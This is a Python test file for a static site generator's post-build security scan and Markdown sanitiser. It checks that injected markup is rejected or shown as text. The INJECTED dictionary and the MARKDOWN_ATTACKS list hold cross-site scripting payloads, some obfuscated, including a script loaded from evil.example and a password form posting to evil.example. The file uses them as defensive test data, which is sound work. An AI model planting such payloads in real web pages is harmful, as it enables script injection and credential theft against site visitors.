"""The post-build scan: no markup from data, every internal link resolves — and the real
renderer gives it nothing to find, whatever the content says."""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from conftest import MINIMAL, TODAY
from generator.cli import main
from generator.publish.csp import meta_policy, script_hashes
from generator.output.markdown import render_markdown
from generator.pipeline import build
from generator.publish.scan import UnsafeOutput, scan_site

MD_SCOPE = ('__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
            '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
            '__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}catch(e){{}}}}')
TABS = 'var target=document.getElementById(location.hash.slice(1));target&&target.name&&(target.checked=target.name.startsWith("__tabbed_"))'


def policy(root: str = "../../") -> str:
    """The policy the theme writes on a page at `root`: the hashes of the page's two inline scripts."""
    scope = MD_SCOPE.format(base=root.rstrip("/") or ".")
    return meta_policy(script_hashes(f"<script>{scope}</script><script>{TABS}</script>"))


POLICY = policy()


def head(root: str = "../../") -> str:
    """The opening of a page as mkdocs-material and our templates write it."""
    return f"""<!doctype html>
<html lang="zh"><head>
<meta charset="utf-8">
<script>{MD_SCOPE.format(base=root.rstrip("/") or ".")}</script>
<link rel="stylesheet" href="{root}assets/site.css">
<meta http-equiv="Content-Security-Policy" content="{policy(root)}">
<title>页面</title>
</head>
<body>
<form class="site-search" role="search" action="{root}search/" method="get" data-site-root="{root}">
<input name="q"></form>
<a href="#main-content">跳到正文</a>
<article id="main-content">
"""


def tail(root: str = "../../") -> str:
    return f"""
</article>
<script>{TABS}</script>
<script id="__config" type="application/json">{{"base": "{root}"}}</script>
<script src="{root}assets/site.js"></script>
</body></html>
"""


HEAD, TAIL = head(), tail()


def site_with(tmp_path: Path, body: str, extra: dict[str, str] | None = None) -> Path:
    root = tmp_path / "out"
    files = {"assets/site.css": "", "assets/site.js": "", "search/index.html": head("../") + '<p id="results"></p>' + tail("../"),
             "powers/sc-1/index.html": HEAD + '<h2 id="basis">依据</h2>' + TAIL,
             "powers/p/index.html": HEAD + body + TAIL, **(extra or {})}
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, "utf-8")
    return root


def scan(tmp_path: Path, body: str, extra: dict[str, str] | None = None) -> list[str]:
    found = scan_site(site_with(tmp_path, body, extra), "site")
    return [p.format().removeprefix("site/powers/p/index.html:") for p in found]


LINE = HEAD.count("\n") + 1  # the line `body` starts on


def test_a_clean_page_passes(tmp_path):
    assert scan(tmp_path, '<p>正文 <a href="../sc-1/#basis">依据</a> <a href="../../search/?q=a#results">搜</a></p>') == []


INJECTED = {
    "inline script": ("<p><script>alert(1)</script></p>",
                      "4: error: <script> 不是本站的脚本文件，也不是主题的已知内联脚本（可能来自内容数据）：<script>alert(1)</script></p>"),
    "upper-case script from elsewhere": ('<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
                                         "1: error: <script> 不是本站的脚本文件，也不是主题的已知内联脚本（可能来自内容数据）："
                                         '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>'),
    "script file that is not ours": ('<script src="../../assets/evil.js"></script>',
                                     "1: error: <script> 不是本站的脚本文件，也不是主题的已知内联脚本（可能来自内容数据）："
                                     '<script src="../../assets/evil.js"></script>'),
    "script with extra attributes": ('<script src="../../assets/site.js" onload="x()"></script>',
                                     "1: error: <script> 不是本站的脚本文件，也不是主题的已知内联脚本（可能来自内容数据）："
                                     '<script src="../../assets/site.js" onload="x()"></script>'),
    "event handler": ("<img src=x onerror=alert(1)>", "12: error: 页面中不允许出现事件属性 onerror=（可能来自内容数据）"),
    "event handler after a slash": ("<svg/onload=alert(1)>", "6: error: 页面中不允许出现事件属性 onload=（可能来自内容数据）"),
    "event handler in capitals": ('<p title="a"ONCLICK="x">', '13: error: 页面中不允许出现事件属性 onclick=（可能来自内容数据）'),
    "javascript link": ('<a href="javascript:alert(1)">x</a>',
                        "10: error: 链接使用了不允许的协议 javascript:（只允许 http、https、mailto、tel 和站内链接）"),
    "javascript link, mixed case and spaces": ('<a href=" JaVaScRiPt:alert(1)">x</a>',
                                               "10: error: 链接使用了不允许的协议 JaVaScRiPt:（只允许 http、https、mailto、tel 和站内链接）"),
    "javascript link, entity-encoded": ('<a href="java&#115;cript:alert(1)">x</a>',
                                        "10: error: 链接使用了不允许的协议 javascript:（只允许 http、https、mailto、tel 和站内链接）"),
    "javascript link, tab inside": ('<a href="jav&#x09;ascript:alert(1)">x</a>',
                                    "10: error: 链接使用了不允许的协议 javascript:（只允许 http、https、mailto、tel 和站内链接）"),
    "data URL": ('<a href="data:text/html,<b>x">x</a>',
                 "10: error: 链接使用了不允许的协议 data:（只允许 http、https、mailto、tel 和站内链接）"),
    "unquoted href": ("<a href=java&#115;cript:alert(1)>x</a>",
                      "4: error: 链接地址没有用双引号括起（可能来自内容数据）：href=java&#115;cript:alert(1)>x</a>"),
    "javascript formaction": ('<button formaction="javascript:alert(1)">x</button>',
                              '9: error: 页面中不允许出现脚本链接：formaction="javascript:alert(1)">x</button>'),
    "iframe": ('<iframe src="https://example.com/"></iframe>',
               '1: error: 页面中不允许出现 <iframe> 元素（可能来自内容数据）：<iframe src="https://example.com/"></iframe>'),
    "object": ('<object data="x.swf"></object>', '1: error: 页面中不允许出现 <object> 元素（可能来自内容数据）：<object data="x.swf"></object>'),
    "embed": ('<embed src="x.swf">', '1: error: 页面中不允许出现 <embed> 元素（可能来自内容数据）：<embed src="x.swf">'),
    "base": ('<base href="https://evil.example/">', '1: error: 页面中不允许出现 <base> 元素（可能来自内容数据）：<base href="https://evil.example/">'),
    "foreign form": ('<form action="https://evil.example/" method="post"><input name="pw"></form>',
                     '1: error: <form> 不是本站的搜索表单（可能来自内容数据）：<form action="https://evil.example/" method="post"><input name="pw"></form>'),
    "search form pointing elsewhere": ('<form class="site-search" role="search" action="../../powers/" method="get">',
                                       '1: error: <form> 不是本站的搜索表单（可能来自内容数据）：<form class="site-search" role="search" action="../../powers/" method="get">'),
    "meta refresh in the body": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">',
                                 "1: error: <meta> 只能出现在 <head> 中，这一处可能来自内容数据"),
    "stylesheet in the body": ('<link rel="stylesheet" href="../../assets/site.css">', "1: error: <link> 只能出现在 <head> 中，这一处可能来自内容数据"),
    "right-to-left override": ("<p>abc\u202edef</p>", "7: error: 页面含有双向控制或零宽字符 U+202E（可能来自内容数据）"),
    "zero width space": ("<p>a\u200bb</p>", "5: error: 页面含有双向控制或零宽字符 U+200B（可能来自内容数据）"),
    "broken page link": ('<a href="../missing/">x</a>', "10: error: 站内链接 ../missing/ 指向的页面或文件不存在"),
    "link out of the site": ('<a href="../../../etc/passwd">x</a>', "10: error: 站内链接 ../../../etc/passwd 指向的页面或文件不存在"),
    "absolute link outside the base path": ('<a href="/elsewhere/">x</a>', "10: error: 站内链接 /elsewhere/ 指向的页面或文件不存在"),
    "broken anchor on the page": ('<a href="#nowhere">x</a>', "10: error: 页内链接 #nowhere 的锚点在本页中不存在"),
    "broken anchor on another page": ('<a href="../sc-1/#nowhere">x</a>', "10: error: 站内链接 ../sc-1/#nowhere 的锚点 #nowhere 在目标页面中不存在"),
    "missing asset": ('<a href="../../data/powers.csv">x</a>', "10: error: 站内链接 ../../data/powers.csv 指向的页面或文件不存在"),
}


@pytest.mark.parametrize("body, problem", INJECTED.values(), ids=INJECTED.keys())
def test_markup_that_is_not_ours_fails_the_scan_at_its_place(tmp_path, body, problem):
    line, rest = str(LINE), problem
    assert scan(tmp_path, body) == [f"{line}:{rest}"]


HARMLESS = {
    "escaped script": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "handler-like text": "<p>onclick=alert(1) onerror = x</p>",
    "handler-like text in an attribute value": '<p title="x onclick=alert(1)" data-x=\'y onload=z\'>t</p>',
    "javascript in text and a title": '<p title="javascript:alert(1)">javascript:alert(1)</p>',
    "template syntax": "<p>{{ 7*7 }} {% if x %}</p>",
    "external, mail and phone links": '<a href="https://example.gov.cn/a?b=1&amp;c=2">a</a> <a href="mailto:a@b.cn">m</a> '
                                      '<a href="tel:12345">t</a>',
    "folder without a slash, query, encoded path": '<a href="../sc-1">a</a> <a href="../../search/?q=%E8%AE%B8#results">s</a> '
                                                   '<a href="../%73c-1/">e</a>',
    "anchor by name, encoded Chinese id": '<a name="x"></a><a href="#x">x</a><h3 id="依据">依据</h3><a href="#%E4%BE%9D%E6%8D%AE">y</a>',
    "content attribute": '<p data-md-component="content" aria-controls="x">t</p>',
}


@pytest.mark.parametrize("body", HARMLESS.values(), ids=HARMLESS.keys())
def test_escaped_text_and_our_own_markup_pass(tmp_path, body):
    assert scan(tmp_path, body) == []


def test_theme_script_must_be_allowed_by_the_policy(tmp_path):
    tabs = script_hashes(f"<script>{TABS}</script>")[0]
    body = HEAD.replace(POLICY, POLICY.replace(" " + tabs, ""))
    root = site_with(tmp_path, "", {"powers/p/index.html": body + TAIL})
    assert [p.format() for p in scan_site(root, "site")] == [
        f"site/powers/p/index.html:{HEAD.count(chr(10)) + 3}:1: error: <script> 不是本站的脚本文件，也不是主题的已知内联脚本"
        f"（可能来自内容数据）：<script>{TABS[:72]}"]


def test_every_page_needs_the_policy(tmp_path):
    root = site_with(tmp_path, "", {"powers/p/index.html": HEAD.replace(f'<meta http-equiv="Content-Security-Policy" '
                                                                        f'content="{POLICY}">', "") + TAIL})
    assert [p.format() for p in scan_site(root, "site")] == [
        "site/powers/p/index.html:1:1: error: 页面缺少 Content-Security-Policy（generator/templates/overrides/main.html 的 extrahead）"]


def test_site_under_a_path(tmp_path):
    body = '<a href="/zwgk/powers/sc-1/">ok</a> <a href="/powers/sc-1/">outside</a>'
    root = site_with(tmp_path, body)
    found = [p.format() for p in scan_site(root, "site", base_path="/zwgk")]
    assert found == [f"site/powers/p/index.html:{LINE}:46: error: 站内链接 /powers/sc-1/ 指向的页面或文件不存在"]


# --- the real renderer ---------------------------------------------------------------------

PAYLOAD = ('<script>alert("x")</script>{{ 7*7 }}{% if 1 %}IF{% endif %}{# c #}<img src=x onerror=alert(1)>'
           '"\'&amp;<a href="javascript:alert(2)">j</a>${7*7}<iframe src=x>')
MARKDOWN = PAYLOAD + "\n\n[链接](javascript:alert(3)) [b](vbscript:x) <b onclick=x>b</b> ![i](https://example.gov.cn/x.png) &#x3C;script&#x3E;"


def payload_tree() -> dict[str, str]:
    """Every free-text field of every kind filled with markup and template syntax (identifier
    fields — codes, phone numbers, document numbers — have format rules that refuse markup)."""
    p = json.dumps(PAYLOAD, ensure_ascii=False)
    d = json.dumps(PAYLOAD + "（部门）", ensure_ascii=False)  # a registered name is not a body outside the registry
    md = json.dumps(MARKDOWN, ensure_ascii=False)
    return {
        "site.yaml": f"name: {p}\nregion: {p}\npublisher: {p}\nbase_url: https://example.gov.cn/\n"
                     f"contact: {{phone: '0411-12345678', email: {p}, address: {p}}}\nlicense: {p}\ncomplaint_hotline: '12345'\n",
        "departments.yaml": f"- id: shichang\n  name: {d}\n  short_name: {d}\n  region: {p}\n  phone: '0411-12345678'\n"
                            f"  supervision_phone: '12345'\n  address: {p}\n  website: https://example.gov.cn/x\n",
        "powers/shichang.yaml": f"""\
- id: sc-1
  code: 'XK-001'
  name: {p}
  category: 行政许可
  subitems: [{{name: {p}, code: 'XK-001-01'}}]
  basis: [{{law: {p}, article: {p}, text: {p}}}]
  implementer: {p}
  level: {p}
  responsibilities: [{p}]
  accountability: [{p}]
  time_limit: {{statutory_days: 20, promised_days: 10, note: {p}}}
  fee: {{charged: true, standard: {p}, basis: {p}}}
  process: [{p}]
  channels: {{online: "https://example.gov.cn/apply?a=1&b=2", hall: {p}}}
  supervision_phone: '12345'
  status: 有效
  effective: 2024-01-01
  changes: [{{date: 2024-01-01, action: 新增, note: {p}, document: {p}}}]
""",
        "policies/p1.yaml": f"""\
id: p1
title: {p}
doc_number: 测发〔2024〕1号
issuers: [shichang, {p}]
issued: 2024-01-01
status: 有效
topics: [{p}]
beneficiaries: [{p}]
summary: {p}
body: {md}
source_url: https://example.gov.cn/p1
interpretation: {{by: {p}, contact: {p}, text: {md}, url: "https://example.gov.cn/i"}}
application: {{conditions: {p}, materials: {p}, channel: {p}, deadline: {p}}}
related_powers: [sc-1]
""",
        "boards/2026-01.yaml": f"""\
id: 2026-01
title: {p}
publisher: {p}
published: 2026-01-10
entries:
  - id: e-1
    board: black
    subject: {p}
    subject_kind: 企业
    region: {p}
    facts: {p}
    basis: {p}
    outcome: {p}
    publish_until: 2027-06-30
    status: 公示中
    rectification: {{deadline: 2026-03-01, measures: {p}}}
""",
        "measures/m1.yaml": f"""\
id: m1
title: {p}
source: {p}
published: 2026-01-10
items:
  - id: m1-1
    text: {p}
    lead_units: [{p}]
    responsible_units: [{p}]
    deadline: 2026-12-31
    status: 推进中
    progress: [{{date: 2026-02-01, note: {p}}}]
""",
    }


@pytest.fixture(scope="module")
def payload_site(tmp_path_factory) -> Path:
    from conftest import write_tree

    root = tmp_path_factory.mktemp("payload")
    content = write_tree(root / "content", {k: v for k, v in payload_tree().items()})
    build(content, root / "site", TODAY, log=lambda line: None, workers=1)  # the scan runs inside
    return root / "site"


def test_markup_in_every_field_is_published_as_text(payload_site):
    assert scan_site(payload_site) == []
    for url in ("", "powers/sc-1/", "policies/p1/", "boards/2026-01/", "measures/m1/", "departments/shichang/",
                "powers/", "policies/", "boards/", "changes/", "stats/"):
        soup = BeautifulSoup((payload_site / url / "index.html").read_text("utf-8"), "html.parser")
        text = soup.get_text()
        assert "{{ 7*7 }}{% if 1 %}IF{% endif %}{# c #}" in text, url  # shown, never evaluated
        assert "49" not in text.replace("2049", ""), url
        assert not soup.find_all(["iframe", "img"]), url
        assert not [a for a in soup.find_all("a") if re.match(r"\s*(javascript|vbscript|data):", a.get("href", ""), re.I)], url
        assert not [t for t in soup.find_all(True) if any(attr.startswith("on") for attr in t.attrs)], url
    title = BeautifulSoup((payload_site / "policies/p1/index.html").read_text("utf-8"), "html.parser").title.string
    assert title.startswith(PAYLOAD)


def test_markup_in_data_files_feed_and_search_index_stays_data(payload_site):
    from xml.etree import ElementTree

    atom = "{http://www.w3.org/2005/Atom}"
    feed = ElementTree.parse(payload_site / "feed.xml").getroot()
    assert any(PAYLOAD in (e.findtext(atom + "title") or "") for e in feed.iter(atom + "entry"))
    assert json.loads((payload_site / "data/policies.json").read_text("utf-8"))[0]["title"] == PAYLOAD
    shards = b"".join(p.read_bytes() for p in (payload_site / "search").rglob("*.json"))
    assert b"{{ 7*7 }}{% if 1 %}IF{% endif %}" in shards  # data, shown as text by search.js (see test_csp_browser)
    ElementTree.parse(payload_site / "sitemap.xml")  # well-formed


MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "[a](JAVASCRIPT:alert(1))",
    "[a](java\nscript:alert(1))", "[a](&#106;avascript:alert(1))", "[a]( javascript:alert(1))", "[a](<javascript:alert(1)>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](vbscript:msgbox)", "<a href='javascript:x'>a</a>", "![x](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]", "<iframe src=//evil></iframe>", "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "```\n<script>alert(1)</script>\n```", "`<script>`",
    "<details open ontoggle=alert(1)>", "[a](https://ok.example/\"onmouseover=\"alert(1))", "<style>*{x:y}</style>",
    "<!-- <script>alert(1)</script> -->", "| a |\n|---|\n| <script>x</script> |", "<form action=x><input></form>",
    "&#x202E;", "[a](#x \"title\" onclick=alert(1))", "<a href=\"https://ok.example/\" onclick=\"x\">a</a>",
]


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS)
def test_markdown_is_restricted_and_sanitised(text):
    html = str(render_markdown(text))
    soup = BeautifulSoup(html, "html.parser")
    allowed = {"p", "br", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "hr",
               "a", "table", "thead", "tbody", "tr", "th", "td"}
    assert {t.name for t in soup.find_all(True)} <= allowed
    for tag in soup.find_all(True):
        assert not any(a.lower().startswith("on") or a == "style" for a in tag.attrs), html
    for a in soup.find_all("a"):
        assert re.match(r"(https?:|mailto:|#|$)", a.get("href", "")), html
    assert not re.search(r"<(script|iframe|img|svg|math|style|form|details)", html, re.I), html


# --- a failure late in the build --------------------------------------------------------

def digest(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(root.rglob("*")) if p.is_file()}


def test_a_scan_failure_leaves_the_previous_site_byte_identical(tree, tmp_path, monkeypatch, capsys):
    tree({"policies/p1.yaml": "id: p1\ntitle: 政策\nissuers: [shichang]\nissued: 2024-01-01\nstatus: 有效\n"
                                        "summary: 概述\nbody: '<script>alert(1)</script>'\n"})
    monkeypatch.chdir(tmp_path)
    assert main(["build", "--content", "content", "-o", "site", "--today", "2026-11-23"]) == 0
    before = digest(tmp_path / "site")
    from markupsafe import Markup

    import generator.output.render
    monkeypatch.setattr(generator.output.render, "render_markdown", lambda text: Markup(text or ""))  # a sanitiser bug
    capsys.readouterr()
    assert main(["build", "--content", "content", "-o", "site", "--today", "2026-11-23"]) == 1
    out, err = capsys.readouterr()
    assert re.fullmatch(r"site/policies/p1/index\.html:\d+:\d+: error: <script> 不是本站的脚本文件，也不是主题的已知内联脚本"
                        r"（可能来自内容数据）：<script>alert\(1\)</script>.*\n", out)
    assert "未生成网站：site 保持不变" in err
    assert digest(tmp_path / "site") == before
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != ".cache") == [".site.lock", "content", "site"]


def test_scan_raises_unsafe_output_with_every_problem(tmp_path):
    root = site_with(tmp_path, "<script>x</script><iframe></iframe>")
    from generator.publish.scan import check_site

    with pytest.raises(UnsafeOutput) as raised:
        check_site(root, "site")
    assert len(raised.value.problems) == 2


def test_minimal_site_scans_clean(tree, tmp_path):
    content = tree(dict(MINIMAL))
    build(content, tmp_path / "out", TODAY, log=lambda line: None, workers=1)
    assert scan_site(tmp_path / "out") == []
